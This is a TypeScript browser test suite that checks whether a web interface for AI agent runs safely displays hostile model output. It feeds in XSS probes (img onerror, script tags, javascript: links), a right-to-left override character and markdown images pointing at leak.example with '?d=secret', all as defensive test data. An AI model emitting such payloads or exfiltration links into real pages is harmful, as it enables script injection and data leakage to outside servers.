import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createClient } from '../../../dandori/src/client/client.ts';
import type { ModelScript } from '../../../dandori/src/testing/index.ts';
import { act, answer, own, say } from '../../../dandori/test/requirements/home.ts';
import { tokenOf } from '../../../dandori/test/server/standing.ts';
import { toShown } from '../../src/shell/shown-text.ts';
import { type Proving, prove } from './proving.ts';

const SCRIPT =
  '\u202etfel <img src=x onerror=alert(1)><script>alert(2)</script> [read](javascript:alert(3)) **<b>so</b>**';
const SHOWN = toShown(SCRIPT);
/** Pictures and links that would carry data to a stranger's server if the page loaded them. */
const LEAK = [
  '![chart](https://leak.example/a.png?d=secret)',
  '<img src="https://leak.example/b.png?d=secret">',
  '[![c](https://leak.example/c.png)](https://leak.example/d)',
  '[report][1] <https://leak.example/e> https://secret.leak.example/f',
  '[1]: https://leak.example/g',
].join('\n\n');
const NAME = '<img src=x onerror=alert(1)>';

/** Writes the hostile text wherever a model can write. */
const HOSTILE: ModelScript = ({ body }) => {
  const last = JSON.stringify(body.messages?.at(-1)?.content ?? '');
  if (/answered|chose|"no"/i.test(last) && /question/i.test(last)) return answer(SCRIPT);
  if (last.includes('Look at the page')) return answer(LEAK);
  if (/<result/.test(last)) return say([own('ask', { question: SCRIPT, options: [SCRIPT, 'no'] })]);
  const calls = ['hostile.say', `hostile.${NAME}`].map((operation, index) =>
    act(`t${index + 1}`, operation, { text: SCRIPT }, { reasoning: SCRIPT }),
  );
  return say(calls, { reasoning: SCRIPT });
};

const [hanako, taro] = [tokenOf('hanako', 'operator'), tokenOf('taro', 'operator')];
let proving: Proving;

beforeAll(async () => {
  proving = await prove(HOSTILE, { server: { tokens: [hanako.entry, taro.entry] } });
});
afterAll(() => proving[Symbol.asyncDispose]());

async function enter(path: string, token: string): Promise<Page> {
  const page = await proving.open(path);
  await page.getByLabel('Access token').fill(token);
  await page.keyboard.press('Enter');
  await page.getByRole('navigation', { name: 'Main' }).waitFor();
  return page;
}

/** All bidirectional controls in the page, including those in fields. */
const turns = (page: Page) =>
  page.evaluate(() => {
    const fields = [...document.querySelectorAll('input, textarea')] as HTMLInputElement[];
    const text = [document.title, document.body.outerHTML, ...fields.map(({ value }) => value)].join('\n');
    return text.match(/.{0,80}[\u202a-\u202e\u2066-\u2069]/g) ?? [];
  });

const parts = (page: Page) => page.locator('main :is(img, script, b, a[href^="javascript"])').count();

describe('the page with hostile texts', () => {
  let run = '';

  it('shows what goals, models and tools write as text only', async () => {
    const client = createClient({ url: proving.url, token: hanako.token });
    run = await client.start(SCRIPT, { mode: 'adaptive' });
    const page = await enter(`/runs/${run}`, hanako.token);
    await page.getByRole('heading', { name: SHOWN, level: 3 }).waitFor();
    expect(await parts(page)).toBe(0);
    await page.getByRole('button', { name: 'no', exact: true }).click();
    await page.locator('strong', { hasText: '<b>so</b>' }).first().waitFor();
    for (const view of ['', '/timeline', '/decisions', '/tasks', '/plan', '/events']) {
      await page.goto(`${proving.url}/runs/${run}${view}`);
      await page.getByRole('tab', { selected: true }).waitFor();
      await page.getByText(NAME).first().waitFor();
      expect(await parts(page), view).toBe(0);
      expect(await turns(page), view).toEqual([]);
    }
    await page.goto(`${proving.url}/runs/${run}/tasks`);
    await page.getByRole('button', { name: 't2', exact: true }).click();
    await page.getByRole('tree', { name: 'Result' }).getByText('javascript:alert(4)').waitFor();
    expect(await parts(page)).toBe(0);
    for (const room of ['/', '/tools', '/dashboard']) {
      await page.goto(proving.url + room);
      await page.getByText(NAME).first().waitFor();
      expect(await parts(page), room).toBe(0);
      expect(await turns(page), room).toEqual([]);
    }
    expect(proving.wrongs).toEqual([]);
    await page.close();
  });

  it('requests nothing of the addresses in an answer, not even their names', async () => {
    const client = createClient({ url: proving.url, token: hanako.token });
    const leaking = await client.start('Look at the page', { mode: 'adaptive' });
    const page = await enter(`/runs/${leaking}`, hanako.token);
    const links = page.locator('main a[href*="leak.example"]');
    await links.first().waitFor();
    for (const link of await links.all())
      expect(await link.textContent()).toBe(await link.getAttribute('href'));
    expect(await parts(page)).toBe(0);
    // A browser may otherwise look up the hosts of links before they are clicked, and a host can contain data.
    const response = await page.reload();
    expect(response?.headers()['x-dns-prefetch-control']).toBe('off');
    await links.first().waitFor();
    expect(proving.wrongs).toEqual([]);
    await page.close();
  });

  it('shows nothing of a run to another user', async () => {
    const page = await enter(`/runs/${run}`, taro.token);
    await page.getByRole('alert').getByText('or it is not yours').waitFor();
    expect(await page.getByText(NAME).count()).toBe(0);
    await page.goto(proving.url);
    await page.getByRole('heading', { name: 'No runs yet' }).waitFor();
    expect(proving.wrongs).toEqual([]);
    await page.close();
  });
});
